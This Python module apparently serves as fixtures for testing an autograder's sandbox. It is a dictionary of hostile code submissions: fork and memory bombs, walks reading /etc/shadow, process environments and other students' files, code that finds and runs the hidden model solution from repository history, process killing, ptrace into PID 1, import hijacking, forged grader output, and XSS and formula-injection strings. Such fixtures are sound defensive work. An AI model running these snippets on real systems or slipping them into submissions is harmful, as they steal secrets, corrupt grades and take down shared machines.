"""Hostile submissions, to try grading with: each may cost nobody anything but its author.

`{folder}` stands for the folder of all submissions, `{root}` for the checkout. Where a function is answered by hostile
values it bears the names of several labs' functions.
"""

HOSTILE = {
    "hangs": """
while True: pass
""",
    "sleeps": """
import time
time.sleep(10_000)
""",
    "forks": """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    "threads": """
import threading, time
while True:
    threading.Thread(target=time.sleep, args=(999,)).start()
""",
    "eats_memory": """
x = []
while True:
    x.append(bytearray(1 << 26))
""",
    "prints": """
while True:
    print('x' * 1_000_000)
""",
    "fills_the_disk": """
import os
for i in range(10_000):
    open(f'/tmp/{i}', 'wb').write(b'x' * (1 << 24))
""",
    "reads_others": """
import os
found = []
for root in ("{folder}", os.path.expanduser("~"), "/proc/1/environ", "/etc/shadow"):
    for at, _, files in os.walk(root):
        for name in files:
            try:
                found.append(open(os.path.join(at, name)).read()[:200])
            except OSError:
                pass
print("STOLEN", len(found), found[:3])
""",
    "forges_results": """
import json, os, struct
steps = [{"$dict": [["value", True]]}] * 500
message = json.dumps({"$dict": [["result", {"$dict": [["steps", steps], ["error", ""]]}]]}).encode()
for descriptor in range(3, 64):
    try:
        os.write(descriptor, struct.pack("<I", len(message)) + message)
    except OSError:
        pass
os._exit(0)
""",
    "writes_grades": """
open('{folder}/../grades.csv', 'w').write('mallory,100')
""",
    "calls_home": """
import socket
socket.create_connection(('192.0.2.1', 80), 1).send(b'hello')
""",
    "kills": """
import os, signal
for pid in range(2, 100_000):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
""",
    "crashes": """
import ctypes
ctypes.string_at(0)
""",
    "pickles": """
class Evil:
    def __reduce__(self):
        return (print, ('PWNED',))
def page_table(*a):
    return Evil()
extend = update = retract = tree_mask = page_table
""",
    "recurses": """
x = []
for _ in range(100_000):
    x = [x]
def page_table(*a):
    return x
extend = update = retract = tree_mask = page_table
""",
    "exits_in_a_thread": """
import threading, os
threading.Timer(0.01, os._exit, (0,)).start()
import time
time.sleep(1)
""",
    "replaces_builtins": """
import builtins, sys
builtins.isinstance = lambda *a: True
sys.modules.clear()
""",
    "ignores_signals": """
import signal
for each in range(1, 65):
    try:
        signal.signal(each, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True: pass
""",
    "leaves_a_daemon": """
import ctypes, os, time
libc = ctypes.CDLL(None)
for start in (os.fork, os.posix_spawn, libc.vfork, lambda: libc.syscall(56, 17, 0, 0, 0, 0)):
    try:
        if start() == 0:
            os.setsid()
            time.sleep(10_000)
    except (OSError, TypeError):
        pass
""",
    "reads_the_history": """
import os, sys, zlib
for at, _, files in os.walk("{root}"):
    for name in files:
        try:
            with open(os.path.join(at, name), "rb") as file:
                data = file.read()
            text = (zlib.decompress(data).partition(b"\\0")[2] if len(name) == 38 else data).decode()
        except (OSError, ValueError, zlib.error):
            continue
        if "The model solution" in text[:300] and "def " in text and not text.startswith("#!"):
            print("STOLEN", at, name)
            exec(text)
""",
    "reads_the_secret": """
import os
found = []
for root in ("{folder}/..", "/dev", "/proc/1/root", os.path.expanduser("~"), "/proc/1/environ", "/etc/shadow"):
    for at, _, files in os.walk(root):
        for name in files:
            try:
                found.append(open(os.path.join(at, name)).read()[:200])
            except OSError:
                pass
print("STOLEN", len(found), found[:3])
""",
    "reads_the_disk": """
import os
for name in os.listdir('/dev'):
    try:
        file = os.open('/dev/' + name, os.O_RDONLY | os.O_NONBLOCK)
        if name[:2] in ('vd', 'sd', 'nv', 'me', 'lo'):
            print('STOLEN', os.read(file, 64))
    except OSError:
        pass
""",
    "changes_the_kernel": """
for name in ('core_pattern', 'hostname', 'pid_max'):
    with open('/proc/sys/kernel/' + name, 'r+') as file:
        file.write(file.read())
""",
    "traces": """
import ctypes, os
libc = ctypes.CDLL(None)
for pid in (1, os.getppid()):
    libc.ptrace(16, pid, 0, 0)
    open(f'/proc/{pid}/mem', 'r+b').write(b'x')
""",
    "hoards_memory": """
import ctypes
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
for _ in range(64):
    at = libc.shmat(libc.shmget(0, 1 << 26, 0o1600), None, 0)
    ctypes.memset(at, 1, 1 << 26)
    libc.shmdt(ctypes.c_void_p(at))
""",
    "fills_memory_files": """
import os
kept = []
while True:
    kept.append(os.memfd_create('x'))
    os.write(kept[-1], b'x' * (8 << 20))
""",
    "bombs_the_answer": """
import os, struct
row = '{"$array":["int8",[4194304],[0,4194304]]}'
rows = '{"$dict":[["value",[' + ",".join([row] * 4000) + "]]]}"
header = ('{"$dict":[["result",{"$dict":[["steps",[' + rows + ']],["error",""]]}]]}').encode()
for descriptor in range(3, 64):
    try:
        left = memoryview(struct.pack("<I", len(header)) + header + bytes(1 << 22))
        while left:
            left = left[os.write(descriptor, left) :]
    except OSError:
        pass
os._exit(0)
""",
    "answers_rows_of_nothing": """
import numpy
def page_table(*a):
    return numpy.zeros((1 << 30, 0))
extend = update = retract = tree_mask = page_table
""",
    "answers_a_false_array": """
class Array:
    dtype, shape = 'float64', (1 << 39,)
    def tobytes(self): return b''
def page_table(*a):
    return Array()
extend = update = retract = tree_mask = page_table
""",
    "hijacks_imports": """
import os, sys
for place in [*sys.path, '.', '/tmp', os.path.expanduser('~')]:
    for name in ('sitecustomize', 'conftest', 'numpy', 'json', 'sglab'):
        try:
            open(f'{place}/{name}.py', 'w').write('raise SystemExit')
        except OSError:
            pass
sys.modules['json'] = sys.modules['numpy'] = None
""",
    "changes_time": """
import time
time.time = time.monotonic = time.perf_counter = lambda: 0.0
time.sleep(10_000)
""",
    "fills_folders": """
for place in ('/tmp', '/dev/shm', '.'):
    for i in range(1_000_000):
        open(f'{place}/{i}', 'w')
""",
    "opens_sockets": """
import socket
for family in (1, 10, 16, 17, 40):
    try:
        socket.socket(family, 1)
        print('STOLEN')
    except OSError:
        pass
""",
    "writes_markup": """
print('<script>alert(1)</script>\\x1b[2J\\x1b]0;x\\x07')
raise ValueError('=cmd|calc!A1 </script><img src=x onerror=alert(2)>')
""",
    "changes_the_script": """
import sys
frame = sys._getframe()
while frame:
    if 'payload' in frame.f_locals:
        frame.f_locals['payload'].get('script', []).clear()
    frame = frame.f_back
""",
    "breaks_the_parser": "x = 1" + "+1" * 120_000 + "\n",
}
"""The same text in the place of each of a lab's files."""
MANIFESTS = {"hints_without_end": '{"hints": {"table": 1e999, "retract": Infinity, "update": -1e999}}'}
"""Hostile in what comes beside the files."""
LINKS = ("links_to_others",)
"""Hand in links in the place of files."""
